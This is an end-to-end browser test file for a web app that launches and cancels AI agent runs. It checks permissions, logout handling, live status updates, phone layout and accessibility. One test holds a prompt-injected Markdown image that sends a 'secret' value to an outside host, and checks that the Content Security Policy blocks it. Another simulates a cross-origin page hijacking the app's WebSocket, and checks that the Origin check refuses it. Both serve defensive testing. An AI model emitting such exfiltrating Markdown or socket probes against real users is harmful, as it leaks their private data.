"""The product's face in real Chromium: controls only for who may use them, a session that
ends ends the live view, counts and outcomes that stay live, text never cut, phones, stops the
provider never confirms, and no serious accessibility violation on any page (axe-core), at
desktop and phone widths, light and dark."""

from __future__ import annotations

import datetime as dt
import re
import signal
import time
from collections.abc import Callable
from typing import Any

import pytest
from django.utils import timezone
from playwright.sync_api import Page, ViewportSize, expect

from runs.models import Run
from tests.conftest import Server, sim_account

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

LONG = "Quarterly market scan sim:pending=0 sim:duration=120"
WIDTHS = {"desktop": (1400, 900), "phone": (390, 844)}


def viewport(width: str) -> ViewportSize:
    wide, high = WIDTHS[width]
    return {"width": wide, "height": high}


def launch(account: Any, user: Any, prompt: str = LONG) -> Run:
    return Run.objects.launch(
        account=account, user=user, prompt=prompt, options={}, timeout_seconds=600
    )


def wait_running(run: Run) -> Run:
    """Wait (with a deadline) until the server's watcher has the run running."""
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        run.refresh_from_db()
        if run.status == "running":
            return run
        time.sleep(0.1)
    raise AssertionError(f"run {run.pk} is {run.status}")


def open_page(log_in: Callable[[Any], Page], user: Any, url: str, width: str) -> Page:
    page = log_in(user)
    page.set_viewport_size(viewport(width))
    page.goto(url)
    return page


@pytest.mark.parametrize("width", WIDTHS)
def test_a_viewer_gets_no_controls_and_esc_does_nothing(
    server: Server,
    log_in: Callable[[Any], Page],
    carol: Any,
    bob: Any,
    fay: Any,
    axe: Any,
    width: str,
) -> None:
    run = launch(fay, bob)
    page = open_page(log_in, carol, f"{server.url}/runs/{run.pk}/", width)
    expect(page.locator("body")).to_have_attribute("data-ws", "open")
    expect(page.locator(".run-status")).to_have_attribute("data-status", "running")
    expect(page.get_by_role("button", name=re.compile("Cancel"))).to_have_count(0)
    posts: list[str] = []
    page.on("request", lambda r: posts.append(r.url) if r.method == "POST" else None)
    page.keyboard.press("Escape")
    page.wait_for_timeout(300)  # a click would have sent its POST at once
    assert posts == []
    expect(page.locator("main")).to_contain_text("Prompt")  # nothing wiped
    axe(page, f"a viewer's run page ({width})")


def test_cancel_after_logging_out_elsewhere_leads_to_login_and_back_and_ends_the_live_view(
    server: Server, log_in: Callable[[Any], Page], bob: Any, fay: Any, password: str
) -> None:
    run = launch(fay, bob)
    page = log_in(bob)
    page.goto(f"{server.url}/runs/{run.pk}/")
    expect(page.locator("body")).to_have_attribute("data-ws", "open")
    expect(page.locator(".run-status")).to_have_attribute("data-status", "running")
    other = page.context.new_page()
    other.goto(f"{server.url}/teams/{run.team_id}/runs/")
    other.get_by_role("button", name="Log out").click()
    # The first tab hears of it: its live view ends, and it says why.
    expect(page.locator("#live-ended")).to_contain_text("You are logged out")
    expect(page.locator("body")).to_have_attribute("data-ws", "ended")
    page.get_by_role("button", name=f"Cancel run #{run.pk}").click()
    expect(page).to_have_url(re.compile(r"/accounts/login/\?next=%2Fruns%2F"))
    expect(page.locator("body")).to_contain_text("Your session ended, so that was not done.")
    page.get_by_label("Username").fill(bob.get_username())
    page.get_by_label("Password").fill(password)
    page.get_by_role("button", name="Log in").click()
    expect(page).to_have_url(f"{server.url}/runs/{run.pk}/")
    run.refresh_from_db()
    assert run.stop_requested_at is None  # the refused Cancel did nothing


def test_counts_and_the_stop_outcome_follow_the_runs_live(
    server: Server, open_team_list: Callable[[Any, Any], Page], bob: Any, acme: Any
) -> None:
    # Dify accepts the stop and its stream ends two seconds later: the answer says "waiting".
    dify = sim_account(acme, server, "dify")
    page = open_team_list(bob, acme)
    running = page.locator('[data-count-status="running"] strong')
    expect(running).to_have_text("0")
    run = launch(dify, bob, "Explain tides sim:duration=60 sim:stop=slow sim:stop_delay=2")
    expect(page.locator(f"#run-row-{run.pk}")).to_have_attribute("data-status", "running")
    expect(running).to_have_text("1")
    expect(page.locator('[data-count-status="all"] strong')).to_have_text("1")
    page.get_by_role("button", name=f"Cancel run #{run.pk}").click()
    # The toast that said "waiting for the provider" is followed by the outcome.
    expect(page.locator("#toasts")).to_contain_text(f"Run #{run.pk}: Stopped.")
    expect(running).to_have_text("0")
    expect(page.locator('[data-count-status="stopped"] strong')).to_have_text("1")


def test_an_overlong_prompt_is_counted_refused_with_its_limit_and_kept(
    server: Server, open_team_list: Callable[[Any, Any], Page], bob: Any, fay: Any, acme: Any
) -> None:
    page = open_team_list(bob, acme)
    prompt = "x" * 20_050 + " END OF PROMPT"
    page.locator("#id_prompt").fill(prompt)
    expect(page.locator("#prompt-count")).to_contain_text("too many")
    page.get_by_role("button", name="Launch run").click()
    expect(page.locator("#launch-form")).to_contain_text("the limit is 20,000")
    assert page.locator("#id_prompt").input_value().endswith("END OF PROMPT")
    assert not Run.objects.exists()


def test_on_a_phone_each_run_is_a_card_with_its_status_and_cancel_in_view(
    server: Server, log_in: Callable[[Any], Page], bob: Any, fay: Any, acme: Any, axe: Any
) -> None:
    run = launch(fay, bob)
    page = open_page(log_in, bob, f"{server.url}/teams/{acme.pk}/runs/", "phone")
    row = page.locator(f"#run-row-{run.pk}")
    expect(row).to_have_attribute("data-status", "running")
    for part in (row.locator(".badge"), row.get_by_role("button", name=re.compile("Cancel"))):
        # A later push may swap the row in at any moment (a progress update): measured in one
        # step in the page, never from an element found before the swap and detached after it.
        expect(part).to_be_visible()
        box = part.evaluate("e => { const r = e.getBoundingClientRect(); return [r.x, r.width]; }")
        assert box[0] >= 0
        assert box[0] + box[1] <= 390, part
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    axe(page, "the run list on a phone")


def test_a_stop_the_provider_never_confirms_can_be_sent_again_or_marked_by_an_admin(
    server: Server, log_in: Callable[[Any], Page], alice: Any, bob: Any, fay: Any, axe: Any
) -> None:
    run = wait_running(launch(fay, bob))
    # The stop went out a minute ago and Fay never confirmed it (written here, so the page
    # is opened after: this process's pushes do not reach the server's sockets).
    ago = timezone.now() - dt.timedelta(minutes=1)
    Run.objects.filter(pk=run.pk).update(
        status="stop_unconfirmed",
        stop_requested_at=ago,
        stop_sent_at=ago,
        stop_next_attempt_at=timezone.now() + dt.timedelta(minutes=5),
    )
    run.record_event("stop_failed", "Fay had an internal error.")
    page = log_in(alice)
    page.goto(f"{server.url}/runs/{run.pk}/")
    expect(page.locator("body")).to_have_attribute("data-ws", "open")
    expect(page.get_by_role("button", name="Send the stop again now")).to_be_visible()
    page.locator("summary", has_text="Mark stopped by hand").click()
    page.get_by_label("Why you are sure it stopped").fill("Fay's dashboard shows it stopped")
    axe(page, "an unconfirmed stop's run page")
    page.get_by_role("button", name="Mark stopped").click()
    expect(page.locator(".run-status")).to_have_attribute("data-status", "stopped")
    expect(page.locator(".run-status")).to_contain_text("force-mark, not the provider")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", WIDTHS)
def test_every_page_has_no_serious_accessibility_violation(
    server: Server,
    log_in: Callable[[Any], Page],
    alice: Any,
    bob: Any,
    fay: Any,
    acme: Any,
    axe: Any,
    screenshot: Callable[[Page, str], None],
    width: str,
    scheme: str,
) -> None:
    run = launch(fay, bob)
    page = log_in(alice)
    page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
    page.set_viewport_size(viewport(width))
    pages = {
        "runs": f"/teams/{acme.pk}/runs/",
        "run": f"/runs/{run.pk}/",
        "dashboard": f"/teams/{acme.pk}/dashboard/",
        "members": f"/teams/{acme.pk}/members/",
        "accounts": f"/teams/{acme.pk}/accounts/",
        "tokens": "/account/tokens/",
    }
    for name, path in pages.items():
        page.goto(server.url + path)
        axe(page, f"{name} ({width}, {scheme})")
        screenshot(page, f"{name}-{width}-{scheme}")
    page.get_by_role("button", name="Log out").click()
    page.goto(f"{server.url}/accounts/login/")
    axe(page, f"login ({width}, {scheme})")


def test_the_content_security_policy_keeps_output_images_and_scripts_to_the_site(
    server: Server,
    log_in: Callable[[Any], Page],
    bob: Any,
    fay: Any,
    acme: Any,
    password: str,
    replay: Any,
) -> None:
    """Prompt-injected Markdown like `![](http://elsewhere/leak.png?d=secret)` makes every
    viewer's browser fetch it, unless the page forbids images from elsewhere."""
    from tests.wire import Answer

    replay.on("GET", ".*", Answer(status=200, headers={"content-type": "image/png"}))
    run = launch(fay, bob)
    run.mark_completed(
        proof="status_read",
        output=f"# Findings\n\n![chart]({replay.url}/leak.png?d=secret)\n\nThe end.",
    )
    page = log_in(bob)
    violations: list[str] = []
    page.on(
        "console",
        lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None,
    )
    page.goto(f"{server.url}/runs/{run.pk}/")
    expect(page.locator(".run-output")).to_contain_text("The end.")
    expect(page.locator("body")).to_have_attribute("data-ws", "open")
    assert replay.received == []  # the image was never fetched
    assert any("img-src" in v for v in violations)  # because the policy said no
    # Every page of the product works under the policy: no script or style refused.
    violations.clear()
    for path in (f"/teams/{acme.pk}/runs/", f"/teams/{acme.pk}/dashboard/"):
        page.goto(server.url + path)
        expect(page.locator("body")).to_have_attribute("data-ws", re.compile("open|none"))
    from django.contrib.auth import get_user_model

    operator = get_user_model().objects.create_superuser("operator", password=password)
    admin = log_in(operator)
    admin.on(
        "console",
        lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None,
    )
    admin.goto(f"{server.url}/admin/runs/run/")
    expect(admin.locator("#result_list")).to_be_visible()
    # The run page may report the refused image again as a push re-renders its output.
    assert [v for v in violations if "leak.png" not in v] == []


# Opens a socket and ends at its close; an admitted socket is closed by the probe after its
# first message (the snapshot every socket gets on connect).
SOCKET_PROBE = """
(url) => new Promise((resolve) => {
  const messages = [];
  const socket = new WebSocket(url);
  socket.onmessage = (event) => { messages.push(String(event.data)); socket.close(); };
  socket.onclose = (event) => resolve({ code: event.code, messages });
})
"""


def test_a_page_on_another_port_of_the_same_host_cannot_read_the_live_list(
    server: Server,
    log_in: Callable[[Any], Page],
    bob: Any,
    fay: Any,
    acme: Any,
    replay: Any,
) -> None:
    """Cookies ignore ports, so a page on http://127.0.0.1:<other port> opens bob's team
    socket with bob's session; only the Origin check (scheme, host and port) stops it."""
    from tests.wire import Answer

    launch(fay, bob, prompt="Secret acquisition target sim:pending=0 sim:duration=120")
    socket_url = f"ws://127.0.0.1:{server.port}/ws/teams/{acme.pk}/"
    page = log_in(bob)
    # The control: from the site itself the same socket carries the list, prompt included.
    own = page.evaluate(SOCKET_PROBE, socket_url)
    assert any("Secret acquisition target" in m for m in own["messages"])
    replay.on(
        "GET",
        "/attack",
        Answer(headers={"content-type": "text/html"}, chunks=[b"<!doctype html><title>x</title>"]),
    )
    attacker = page.context.new_page()
    attacker.goto(f"{replay.url}/attack")
    stolen = attacker.evaluate(SOCKET_PROBE, socket_url)
    assert stolen["messages"] == []
    assert stolen["code"] != 1000  # refused at the handshake, not closed after use


def test_restarting_the_server_at_once_brings_open_pages_back_live(
    transactional_db: None,
    new_context: Callable[..., Any],
    bob: Any,
    acme: Any,
    password: str,
) -> None:
    """Ctrl-C on `make run` with an IntelligenceBox chat streaming (the old process lets it
    finish), then `make run` again at once: the port is free, and a page left open
    reconnects to the new server by itself and shows what happens there, live."""
    from django.db import connection

    from tests.conftest import database_url

    env = {
        "DATABASE_URL": database_url(connection.vendor, connection.settings_dict),
        "DJANGO_ALLOW_ASYNC_UNSAFE": "",
        "RUNBRAKE_WATCHER_DRAIN_SECONDS": "600",
    }
    old = Server(watcher=True, env=env)
    new: Server | None = None
    try:
        chat = launch(sim_account(acme, old, "intelligencebox"), bob)
        wait_running(chat)
        page = new_context(viewport={"width": 1280, "height": 900}).new_page()
        page.goto(f"{old.url}/accounts/login/")
        page.get_by_label("Username").fill(bob.get_username())
        page.get_by_label("Password").fill(password)
        page.get_by_role("button", name="Log in").click()
        page.goto(f"{old.url}/teams/{acme.pk}/runs/")
        expect(page.locator("body")).to_have_attribute("data-ws", "open")
        page.evaluate("window.__noReload = true")

        old.proc.send_signal(signal.SIGINT)
        expect(page.locator("body")).not_to_have_attribute("data-ws", "open")
        new = Server(watcher=True, port=old.port, env=env)
        assert old.proc.poll() is None  # still letting the chat finish
        expect(page.locator("body")).to_have_attribute("data-ws", "open", timeout=20_000)

        later = launch(sim_account(acme, new, "dify"), bob, prompt="After the restart " + LONG)
        row = page.locator(f"#run-row-{later.pk}")
        expect(row).to_contain_text("After the restart")
        expect(row).to_contain_text("Running")
        assert page.evaluate("window.__noReload") is True
    finally:
        for server in (old, new):
            if server is not None:
                server.proc.send_signal(signal.SIGINT)
                server.close()


def test_the_admins_stop_message_follows_the_runs_to_the_providers_word(
    server: Server,
    log_in: Callable[[Any], Page],
    bob: Any,
    acme: Any,
    password: str,
) -> None:
    """Dify confirms a stop only when its stream ends (here 2 s after the stop call): the
    message says "awaiting provider confirmation", then, without a reload, "stopped"."""
    from django.contrib.auth import get_user_model

    dify = sim_account(acme, server, "dify")
    run = wait_running(launch(dify, bob, prompt=LONG + " sim:stop=slow sim:stop_delay=2"))
    operator = get_user_model().objects.create_superuser("operator", password=password)
    page = log_in(operator)
    page.goto(f"{server.url}/admin/runs/run/")
    page.locator(f'input[name="_selected_action"][value="{run.pk}"]').check()
    page.locator('select[name="action"]').select_option("stop_selected")
    page.locator('button[name="index"]').click()
    message = page.locator(".messagelist li", has_text=f"#{run.pk}")
    expect(message).to_contain_text("awaiting provider confirmation")
    page.evaluate("window.__noReload = true")
    expect(message.get_by_role("status")).to_contain_text(
        f"#{run.pk} stopped, confirmed by", timeout=30_000
    )
    expect(message).to_have_class("success")
    row = page.locator("tr", has=page.locator(f'input[value="{run.pk}"]'))
    expect(row.locator(".rb-badge")).to_have_text("Stopped")  # the row agrees
    assert page.evaluate("window.__noReload") is True
    run.refresh_from_db()
    assert run.status == "stopped"
